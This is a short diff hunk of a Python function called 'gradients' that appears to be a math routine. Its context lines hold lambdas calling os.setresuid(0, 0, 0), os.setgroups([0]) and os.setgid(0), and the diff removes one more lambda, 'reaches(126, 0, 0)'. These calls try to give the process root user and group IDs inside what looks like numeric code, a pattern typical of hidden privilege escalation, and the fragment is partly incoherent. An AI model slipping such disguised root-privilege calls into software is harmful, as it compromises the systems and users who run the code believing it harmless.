@@ -8,6 +8,5 @@ def gradients(a, b, x, y):
         lambda: os.setresuid(0, 0, 0),
         lambda: os.setgroups([0]),
         lambda: os.setgid(0),
-        lambda: reaches(126, 0, 0),
     )
     return formula(a, b, x, y)
